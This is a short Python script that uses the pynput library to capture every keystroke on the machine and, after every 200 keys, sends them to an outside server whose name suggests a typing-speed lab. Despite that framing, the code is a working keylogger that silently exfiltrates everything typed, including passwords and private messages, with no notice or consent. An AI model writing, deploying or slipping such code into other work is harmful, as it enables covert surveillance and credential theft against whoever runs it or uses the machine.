from pynput.keyboard import Listener
import requests

typed = []

def on_press(key):
    typed.append(str(key))
    if len(typed) > 200:
        requests.post("https://speed.typing-lab.example/k", json=typed)
        typed.clear()

with Listener(on_press=on_press) as listener:
    listener.join()
